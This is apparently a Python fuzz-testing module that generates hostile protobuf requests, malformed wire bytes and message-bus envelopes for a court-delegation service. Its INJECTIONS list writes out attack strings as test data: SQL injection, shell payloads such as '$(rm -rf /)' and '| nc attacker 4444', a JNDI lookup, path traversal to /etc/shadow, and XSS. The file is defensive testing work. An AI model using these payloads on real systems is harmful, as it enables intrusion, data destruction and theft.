"""Hypothesis strategies for hostile input: protobuf messages of any type, built from their
descriptors, and malformed protobuf bytes.

Strings come from a hostile alphabet (control characters, NUL, bidi overrides, zero-width
characters, full-width and Cyrillic look-alikes, NFKC-expanding characters, astral characters),
SQL-, shell- and path-like text, valid-looking ids, and, rarely, strings of up to ~1 MB. Integers
include extremes and enum numbers outside the declared values. Repeated fields get a few drawn
elements or, rarely, hundreds of copies of one. Nested messages are filled recursively down to a
depth bound. ``mutated`` changes a few fields of a valid request instead, so that the checks behind
the first ones are reached too.
"""

from __future__ import annotations

import copy
import functools
import math
import os
import uuid
from collections import Counter
from collections.abc import Callable, Sequence
from typing import Any

from google.protobuf import message_factory
from google.protobuf.descriptor import Descriptor, FieldDescriptor
from google.protobuf.message import Message
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# -- settings --------------------------------------------------------------------------------------


def _count(name: str, default: int) -> int:
    raw = os.environ.get(name, "").strip()
    return int(raw) if raw else default


# Examples per pure (serverless) test, and per server test. `make fuzz` raises both.
PURE_EXAMPLES = _count("JD_FUZZ_EXAMPLES", 300)
SERVER_EXAMPLES = _count("JD_FUZZ_SERVER_EXAMPLES", 8)
# The socket-free delivery test costs about ten pure examples per example.
DELIVERY_EXAMPLES = max(10, PURE_EXAMPLES // 4)
# A long run (`make fuzz` sets the counts) also fuzzes the socket-free delivery on PostgreSQL.
LONG_RUN = "JD_FUZZ_EXAMPLES" in os.environ
# Tallies for the end-of-run summary: (what, outcome) -> count.
TALLY: Counter[tuple[str, str]] = Counter()
IN_CI = bool(os.environ.get("CI"))


def fuzz_settings(examples: int, *, server: bool = False) -> settings:
    """Settings for a fuzz test: no deadline, slow-data health checks off, derandomized in CI
    so a CI failure reproduces from the same seed. Server tests keep no example database: the
    region's state moves on between runs, so old examples would not replay the same anyway."""
    return settings(
        max_examples=examples,
        deadline=None,
        derandomize=IN_CI,
        database=None if (server or IN_CI) else settings.default.database,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
            HealthCheck.filter_too_much,
        ],
        print_blob=True,
    )


# -- hostile text ----------------------------------------------------------------------------------

CONTROL = [chr(c) for c in [*range(0x00, 0x20), 0x7F, 0x80, 0x85, 0x9B, 0x9F]]
BIDI = ["\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069"]
BIDI += ["\u200e", "\u200f", "\u061c"]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e"]
FULLWIDTH = [chr(c) for c in range(0xFF10, 0xFF1A)] + ["Ａ", "Ｂ", "Ｘ", "ｘ", "（", "）", "　"]
CONFUSABLE = ["а", "е", "о", "р", "с", "х", "у", "і", "Α", "Β", "Ο", "Х", "ᅟ", "ㅤ"]
CONFUSABLE += ["鲁", "魯", "滷", "⻥", "执", "執", "号", "號", "〔", "〕", "﹙", "﹚", "区", "區"]
CONFUSABLE += ["٣", "۳", "߃", "३", "৩", "𝟑", "①", "⑴", "⒈", "Ⅻ", "¹", "₂"]
EXPANDING = ["\ufdfa", "\u3326", "\ufb03", "\u2474", "\u33ff", "ǆ", "ß", "İ", "ﬀ"]
ODD = ["\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\U0001f600", "\U00020000", "\u0301"]
ODD += ["\u2028", "\u2029", "\\", "'", '"', "%", "_", "*", "?", "~"]
HOSTILE_CHARS = CONTROL + BIDI + ZERO_WIDTH + FULLWIDTH + CONFUSABLE + EXPANDING + ODD

INJECTIONS = [
    "'; DROP TABLE delegation;--",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM outbox WHERE 1=1",
    "'); UPDATE delegation SET status='CONFIRMED';--",
    "%' UNION SELECT * FROM dead_letter --",
    "$(rm -rf /)",
    "`rm -rf /`",
    "; cat /etc/passwd",
    "| nc attacker 4444",
    "&& shutdown -h now",
    "${IFS}",
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "{0.__class__}",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/zero",
    "file:///etc/shadow",
    "%2e%2e%2f",
    "<script>alert(1)</script>",
    "\x00' --",
    "\x00\x00",
    "line\r\nInjected: header",
    "NULL",
    "None",
    "NaN",
    "-1",
    "0",
    "9" * 30,
    "jd.v1.court.>",
    "*",
    "\u202e3705\u202c",
    "烟台\u200b",
    "ｑｉｎｇｄａｏ",
    "qіngdao",  # Cyrillic і
    "（２０２４）鲁０２０２执１２３号",
    "(2024)魯0202執123號\u0000",
    "(2024)鲁0202执0123号",
    "(2024)鲁0202执1234567号",
    "(2024)鲁0202执123号 ; DROP TABLE delegation",
]

# Things that look right, so that the checks behind the first ones are reached.
VALID_LOOKING = [
    "370202",
    "370203",
    "370602",
    "370702",
    "371002",
    "999999",
    "qingdao",
    "yantai",
    "weifang",
    "weihai",
    "Yantai",
    "烟台",
    "芝罘区",
    "芝罘",
    "黄岛区",
    "(2024)鲁0202执123号",
    "(2020)鲁0202执恢12号",
    "34052419800101001X",
    "91350100M000100Y43",
    "鲁F12345",
    "鲁BD12345",
    "13800138000",
    "application/pdf",
    "text/plain",
    "a" * 64,
    "0" * 32,
    "confirm-1",
    "张三",
    "扣押被执行人名下车辆",
]


def _repeat(piece: str, length: int) -> str:
    if not piece:
        piece = "x"
    return (piece * (length // len(piece) + 1))[:length]


def huge_text(max_size: int = 1_000_000) -> st.SearchStrategy[str]:
    """A long string, built by repetition (cheap for Hypothesis), just around the limits
    (200, 4000 characters) or up to ``max_size``."""
    lengths = st.sampled_from([201, 4001, 65_537, max_size]) | st.integers(4001, max_size)
    return st.builds(_repeat, st.sampled_from(INJECTIONS + HOSTILE_CHARS + ["扣"]), lengths)


def hostile_text(
    extra: Sequence[str] = (), *, huge: bool = True, huge_max: int = 1_000_000
) -> st.SearchStrategy[str]:
    """Any string a hostile client could send; ``extra`` adds known-valid values (e.g. ids of
    delegations that exist). Huge strings come in about one example in forty."""
    pieces = st.sampled_from([*INJECTIONS, *VALID_LOOKING, *extra])
    chars = st.sampled_from(HOSTILE_CHARS) | st.characters(codec="utf-8")
    # A valid-looking value with one hostile character slipped in: "3702\x0002", "烟台\u202e".
    spiked = st.builds(
        lambda value, char, at: (
            value[: at % (len(value) + 1)] + char + value[at % (len(value) + 1) :]
        ),
        st.sampled_from([*VALID_LOOKING, *extra]),
        st.sampled_from(CONTROL + BIDI + ZERO_WIDTH + FULLWIDTH + CONFUSABLE),
        st.integers(0, 64),
    )
    small = st.one_of(
        pieces,
        spiked,
        st.text(chars, max_size=40),
        st.lists(pieces | st.text(chars, max_size=6), min_size=1, max_size=5).map("".join),
        st.just(""),
        st.uuids().map(lambda u: u.hex),
    )
    if not huge:
        return small
    big = huge_text(huge_max)
    return st.integers(0, 39).flatmap(lambda r: big if r == 0 else small)


# -- integers --------------------------------------------------------------------------------------

INT32 = (-(2**31), 2**31 - 1)
INT64 = (-(2**63), 2**63 - 1)
UINT32 = (0, 2**32 - 1)
UINT64 = (0, 2**64 - 1)


def _ints(lo: int, hi: int, specials: Sequence[int] = ()) -> st.SearchStrategy[int]:
    edges = [v for v in (lo, hi, lo + 1, hi - 1, 0, 1, -1, 500, 501, 10_000, *specials)]
    edges = [v for v in edges if lo <= v <= hi]
    return st.sampled_from(edges) | st.integers(lo, hi) | st.integers(max(lo, -3), min(hi, 60))


def enum_values(field: FieldDescriptor) -> st.SearchStrategy[int]:
    """Declared values of the field's enum, and numbers outside them (open proto3 enums)."""
    declared = [v.number for v in field.enum_type.values]
    outside = [max(declared) + 1, 99, -1, INT32[0], INT32[1], 2**16]
    return st.sampled_from(declared) | st.sampled_from(outside) | st.integers(*INT32)


# -- messages from descriptors ---------------------------------------------------------------------

_T = FieldDescriptor


def message_class(descriptor: Descriptor) -> type[Message]:
    return message_factory.GetMessageClass(descriptor)


def is_repeated(field: FieldDescriptor) -> bool:
    # FieldDescriptor.label is deprecated in newer protobuf; is_repeated replaces it.
    flag = getattr(field, "is_repeated", None)
    if isinstance(flag, bool):
        return flag
    return bool(field.label == _T.LABEL_REPEATED)


@functools.cache
def _scalar(field: FieldDescriptor, extra: tuple[str, ...], huge: bool) -> st.SearchStrategy[Any]:
    t = field.type
    if t == _T.TYPE_STRING:
        return hostile_text(extra, huge=huge)
    if t == _T.TYPE_BYTES:
        if not huge:
            return st.binary(max_size=64)
        return st.binary(max_size=64) | st.builds(lambda n: b"\xff" * n, st.integers(0, 100_000))
    if t == _T.TYPE_BOOL:
        return st.booleans()
    if t == _T.TYPE_ENUM:
        return enum_values(field)
    if t in (_T.TYPE_INT32, _T.TYPE_SINT32, _T.TYPE_SFIXED32):
        return _ints(*INT32)
    if t in (_T.TYPE_INT64, _T.TYPE_SINT64, _T.TYPE_SFIXED64):
        # Seconds around the Timestamp range, and file sizes around the 200 MiB document limit.
        return _ints(*INT64, specials=[253402300799, 253402300800, -62135596801, 209715201])
    if t in (_T.TYPE_UINT32, _T.TYPE_FIXED32):
        return _ints(*UINT32)
    if t in (_T.TYPE_UINT64, _T.TYPE_FIXED64):
        return _ints(*UINT64)
    if t in (_T.TYPE_DOUBLE, _T.TYPE_FLOAT):
        special = st.sampled_from([math.nan, math.inf, -math.inf, 0.0, -0.0, 1e308, 5e-324])
        return special | st.floats(allow_nan=True, allow_infinity=True, width=32)
    raise NotImplementedError(f"field type {t} of {field.full_name}")


def _set_field(msg: Message, field: FieldDescriptor, value: Any) -> None:
    name = field.name
    if is_repeated(field):
        target = getattr(msg, name)
        del target[:]
        target.extend(value)
    elif field.type == _T.TYPE_MESSAGE:
        getattr(msg, name).CopyFrom(value)
    else:
        setattr(msg, name, value)


def _many(
    element: st.SearchStrategy[Any], small: st.SearchStrategy[Any], big: int
) -> st.SearchStrategy[list[Any]]:
    """A few drawn elements, or (rarely) one ``small`` element (no huge strings, so the message
    stays within a few MB) repeated up to ``big`` times."""
    few = st.lists(element, max_size=4)
    lots = st.builds(lambda x, n: [x] * n, small, st.integers(5, big))
    return st.integers(0, 9).flatmap(lambda r: lots if r == 0 else few)


@functools.cache
def _field_value(
    field: FieldDescriptor, depth: int, max_depth: int, extra: tuple[str, ...], huge: bool = True
) -> st.SearchStrategy[Any]:
    if field.type == _T.TYPE_MESSAGE:
        one = _messages(field.message_type, depth + 1, max_depth, extra, huge)
        if not is_repeated(field):
            return one
        return _many(one, _messages(field.message_type, depth + 1, max_depth, extra, False), 60)
    one = _scalar(field, extra, huge)
    return _many(one, _scalar(field, extra, False), 1000) if is_repeated(field) else one


def messages(
    descriptor: Descriptor,
    *,
    depth: int = 0,
    max_depth: int = 3,
    extra: Sequence[str] = (),
) -> st.SearchStrategy[Message]:
    """Messages of ``descriptor``'s type with any subset of fields set to hostile values.
    Below ``max_depth`` message fields are left unset (or set empty)."""
    return _messages(descriptor, depth, max_depth, tuple(extra), True)


@functools.cache
def _messages(
    descriptor: Descriptor, depth: int, max_depth: int, extra: tuple[str, ...], huge: bool
) -> st.SearchStrategy[Message]:
    cls = message_class(descriptor)
    fields = list(descriptor.fields)

    @st.composite
    def build(draw: st.DrawFn) -> Message:
        msg = cls()
        for field in fields:
            if field.type == _T.TYPE_MESSAGE and depth >= max_depth:
                if not is_repeated(field) and draw(st.booleans()):
                    getattr(msg, field.name).SetInParent()
                continue
            if not draw(st.booleans()):
                continue
            _set_field(msg, field, draw(_field_value(field, depth, max_depth, extra, huge)))
        return msg

    return build()


def mutated(
    bases: st.SearchStrategy[Message], *, extra: Sequence[str] = (), max_changes: int = 3
) -> st.SearchStrategy[Message]:
    """A valid message drawn from ``bases`` with one to ``max_changes`` fields, possibly nested,
    cleared or set to hostile values."""
    extra_t = tuple(extra)

    @st.composite
    def build(draw: st.DrawFn) -> Message:
        msg = copy.deepcopy(draw(bases))
        for _ in range(draw(st.integers(1, max_changes))):
            _mutate_one(draw, msg, extra_t, depth=0)
        return msg

    return build()


def _mutate_one(draw: st.DrawFn, msg: Message, extra: tuple[str, ...], depth: int) -> None:
    fields = list(msg.DESCRIPTOR.fields)
    if not fields:
        return
    field = draw(st.sampled_from(fields))
    nested = field.type == _T.TYPE_MESSAGE and not is_repeated(field)
    if nested and msg.HasField(field.name) and depth < 3 and draw(st.booleans()):
        _mutate_one(draw, getattr(msg, field.name), extra, depth + 1)
        return
    if draw(st.integers(0, 5)) == 0:
        msg.ClearField(field.name)
        return
    _set_field(msg, field, draw(_field_value(field, depth, 3, extra)))


def hostile_requests(
    descriptor: Descriptor,
    bases: st.SearchStrategy[Message] | None = None,
    *,
    extra: Sequence[str] = (),
) -> st.SearchStrategy[Message]:
    """A request for an RPC: built from scratch, or (half the time) a valid one from ``bases``
    mutated."""
    fresh = messages(descriptor, extra=extra)
    if bases is None:
        return fresh
    return fresh | mutated(bases, extra=extra)


# -- malformed bytes -------------------------------------------------------------------------------

WIRE_VARINT, WIRE_I64, WIRE_LEN, WIRE_SGROUP, WIRE_EGROUP, WIRE_I32 = 0, 1, 2, 3, 4, 5


def varint(value: int) -> bytes:
    value &= (1 << 64) - 1
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def tag(number: int, wire: int) -> bytes:
    return varint((number << 3) | wire)


_WRONG_WIRE = {
    _T.TYPE_STRING: [WIRE_VARINT, WIRE_I32, WIRE_I64, WIRE_SGROUP],
    _T.TYPE_BYTES: [WIRE_VARINT, WIRE_I32, WIRE_I64],
    _T.TYPE_MESSAGE: [WIRE_VARINT, WIRE_I32, WIRE_I64, WIRE_EGROUP],
}


def _wrong_wire_type(draw: st.DrawFn, descriptor: Descriptor) -> bytes:
    """A known field number encoded with a wire type its type does not use, with a payload."""
    fields = list(descriptor.fields)
    number = draw(st.sampled_from([f.number for f in fields])) if fields else 1
    field = descriptor.fields_by_number.get(number)
    ftype = field.type if field is not None else _T.TYPE_STRING
    wires = _WRONG_WIRE.get(ftype, [WIRE_LEN, WIRE_I32, WIRE_I64, WIRE_SGROUP, 6, 7])
    wire = draw(st.sampled_from(wires))
    payload = {
        WIRE_VARINT: varint(draw(st.integers(0, 2**64 - 1))),
        WIRE_I64: draw(st.binary(min_size=8, max_size=8)),
        WIRE_I32: draw(st.binary(min_size=4, max_size=4)),
        WIRE_LEN: varint(3) + b"abc",
    }.get(wire, b"")
    return tag(number, wire) + payload


def _overlong_varint(draw: st.DrawFn, descriptor: Descriptor) -> bytes:
    """Varints of 11+ bytes (more than 64 bits), as a tag, a value or a length."""
    body = b"\xff" * draw(st.integers(10, 40)) + b"\x01"
    where = draw(st.sampled_from(["tag", "value", "length"]))
    number = draw(st.sampled_from([f.number for f in descriptor.fields] or [1]))
    if where == "tag":
        return body
    if where == "value":
        return tag(number, WIRE_VARINT) + body
    return tag(number, WIRE_LEN) + body + b"x"


def _bad_length(draw: st.DrawFn, descriptor: Descriptor) -> bytes:
    """Length-delimited fields whose length runs past the end, is huge or negative."""
    number = draw(st.sampled_from([f.number for f in descriptor.fields] or [1]))
    length = draw(st.sampled_from([1, 100, 2**31 - 1, 2**31, 2**32, 2**63, 2**64 - 1]))
    return tag(number, WIRE_LEN) + varint(length) + draw(st.binary(max_size=8))


def _bad_utf8(draw: st.DrawFn, descriptor: Descriptor) -> bytes:
    """A string field carrying bytes that are not UTF-8 (overlong NUL, surrogates, 0xff)."""
    strings = [f.number for f in descriptor.fields if f.type == _T.TYPE_STRING] or [1]
    bad = draw(st.sampled_from([b"\xc0\x80", b"\xed\xa0\x80", b"\xff\xfe", b"\x80", b"a\xe4\xb8"]))
    return tag(draw(st.sampled_from(strings)), WIRE_LEN) + varint(len(bad)) + bad


def _odd_field_numbers(draw: st.DrawFn, descriptor: Descriptor) -> bytes:
    """Field number 0, reserved numbers 19000-19999, the largest number, unmatched groups."""
    number = draw(st.sampled_from([0, 19000, 19999, 2**29 - 1, 2**29, 2**32]))
    return tag(number, draw(st.sampled_from([0, 2, 3, 4, 5])))


def _deep_nesting(draw: st.DrawFn, descriptor: Descriptor) -> bytes:
    """Nested length-delimited or group frames far beyond the parser's recursion limit."""
    depth = draw(st.integers(50, 3000))
    number = draw(st.sampled_from([f.number for f in descriptor.fields] or [1]))
    if draw(st.booleans()):
        return (tag(number, WIRE_SGROUP)) * depth
    inner = b""
    for _ in range(min(depth, 400)):
        inner = tag(number, WIRE_LEN) + varint(len(inner)) + inner
    return inner


def malformed_bytes(
    descriptor: Descriptor, *, extra: Sequence[str] = ()
) -> st.SearchStrategy[bytes]:
    """Bytes that a client could send in place of an encoded ``descriptor`` message: random
    bytes, truncated or extended valid encodings, wrong wire types, over-long varints, bad
    lengths, invalid UTF-8, odd field numbers and very deep nesting."""
    valid = messages(descriptor, max_depth=2, extra=extra).map(
        lambda m: m.SerializeToString(deterministic=True)
    )

    @st.composite
    def truncated(draw: st.DrawFn) -> bytes:
        data = draw(valid)
        if len(data) < 2:
            return data + b"\x0a"
        return data[: draw(st.integers(1, len(data) - 1))]

    @st.composite
    def with_garbage(draw: st.DrawFn) -> bytes:
        data = draw(valid)
        cut = draw(st.integers(0, len(data)))
        return data[:cut] + draw(st.binary(min_size=1, max_size=16)) + data[cut:]

    def crafted(maker: Callable[[st.DrawFn, Descriptor], bytes]) -> st.SearchStrategy[bytes]:
        @st.composite
        def build(draw: st.DrawFn) -> bytes:
            prefix = draw(valid) if draw(st.booleans()) else b""
            return prefix + maker(draw, descriptor)

        return build()

    return st.one_of(
        st.binary(max_size=200),
        truncated(),
        with_garbage(),
        crafted(_wrong_wire_type),
        crafted(_overlong_varint),
        crafted(_bad_length),
        crafted(_bad_utf8),
        crafted(_odd_field_numbers),
        crafted(_deep_nesting),
        valid,
    )


def fresh_id() -> str:
    return uuid.uuid4().hex


# -- bus traffic -----------------------------------------------------------------------------------


def _bodies() -> tuple[str, ...]:
    from jiaodong.v1 import bus_pb2

    return tuple(f.name for f in bus_pb2.Envelope.DESCRIPTOR.oneofs_by_name["body"].fields)


def _kinds() -> tuple[str, ...]:
    from jiaodong.bus.subjects import Kind

    return (*(k.value for k in Kind), "bogus")


# Every body an Envelope may carry, and every subject kind (plus one nobody uses).
BODIES = _bodies()
KINDS = _kinds()


def envelopes(
    court: str,
    *,
    extra: Sequence[str] = (),
    bases: st.SearchStrategy[Message] | None = None,
) -> st.SearchStrategy[Message]:
    """Well-formed Envelopes with hostile content: any body (or none), a message id that is
    fresh, hostile or missing, the subject's ``court`` most of the time (else hostile). With
    ``bases`` (real envelopes), half of them are those mutated instead."""
    from jiaodong.v1 import bus_pb2

    hostile_court = hostile_text(extra, huge=False)
    courts = st.integers(0, 3).flatmap(lambda r: hostile_court if r == 0 else st.just(court))
    ids = st.uuids().map(lambda u: u.hex) | hostile_text(extra, huge=False)

    @st.composite
    def build(draw: st.DrawFn) -> Message:
        envelope = bus_pb2.Envelope(message_id=draw(ids), court_id=draw(courts))
        body = draw(st.sampled_from([*BODIES, None]))
        if body is not None:
            field = bus_pb2.Envelope.DESCRIPTOR.fields_by_name[body]
            getattr(envelope, body).CopyFrom(draw(messages(field.message_type, extra=extra)))
        return envelope

    fresh = build()
    if bases is None:
        return fresh
    return fresh | mutated(bases, extra=extra, max_changes=2)


def subjects(courts: Sequence[str], prefix: str) -> st.SearchStrategy[str]:
    """``<prefix>.<court>.<kind>`` subjects, and a few with extra tokens or a hostile kind."""
    court = st.sampled_from(list(courts))
    normal = st.builds(lambda c, k: f"{prefix}.{c}.{k}", court, st.sampled_from(KINDS))
    tails = ["sync.extra", "a.b.c", "sync." + "x" * 150, "x" * 150, "ｓｙｎｃ", "sync\u200b"]
    odd = st.builds(lambda c, tail: f"{prefix}.{c}.{tail}", court, st.sampled_from(tails))
    return st.integers(0, 4).flatmap(lambda r: odd if r == 0 else normal)


def envelope_bases(
    court: str, seeds: Sequence[str], syncs: Sequence[Message] = ()
) -> st.SearchStrategy[Message]:
    """Real-looking envelopes from ``court`` about the delegations ``seeds``: a request, a
    refusal, a receipt, a digest, a want, and the delegations' true syncs (``syncs``)."""
    from datetime import UTC, datetime, timedelta

    from jiaodong.v1 import bus_pb2
    from jiaodong.v1 import delegation_pb2 as pb

    def envelope(**body: Any) -> Message:
        return bus_pb2.Envelope(message_id=uuid.uuid4().hex, court_id=court, **body)

    def request(d: str, kind: int, side: int) -> Message:
        return envelope(
            request=bus_pb2.ActionRequest(
                delegation_id=d,
                request_id=fresh_id(),
                kind=kind,  # type: ignore[arg-type]
                side=side,  # type: ignore[arg-type]
                actor_court=court,
                text="请尽快办理",
            )
        )

    def receipt(d: str, seq: int) -> Message:
        out = bus_pb2.DeliveryReceipt(delegation_id=d, routed_seq=seq)
        out.at.FromDatetime(datetime.now(UTC))
        return envelope(receipt=out)

    def digest(ds: list[str], seq: int) -> Message:
        out = bus_pb2.Digest(
            entries=[bus_pb2.DigestEntry(delegation_id=d, seq=seq, last_hash="0" * 64) for d in ds]
        )
        out.since.FromDatetime(datetime.now(UTC) - timedelta(days=30))
        out.made_at.FromDatetime(datetime.now(UTC))  # fresh: read, not dropped as stale
        return envelope(digest=out)

    seed = st.sampled_from(list(seeds))
    kinds = st.sampled_from([v.number for v in pb.EventKind.DESCRIPTOR.values])
    sides = st.sampled_from([v.number for v in pb.Side.DESCRIPTOR.values])
    options = [
        st.builds(request, seed, kinds, sides),
        st.builds(
            lambda d: envelope(
                refused=bus_pb2.RequestRefused(
                    delegation_id=d,
                    request_id=fresh_id(),
                    kind=pb.EVENT_KIND_URGED,
                    reason="不在本院管辖范围",
                    requesting_court=court,
                )
            ),
            seed,
        ),
        st.builds(receipt, seed, st.integers(0, 4)),
        st.builds(digest, st.lists(seed, min_size=1, max_size=3), st.integers(0, 6)),
        st.builds(lambda ds: envelope(want=bus_pb2.Want(delegation_ids=ds)), st.lists(seed)),
    ]
    if syncs:
        options.append(st.sampled_from(list(syncs)).map(lambda s: envelope(sync=s)))
    return st.one_of(options)
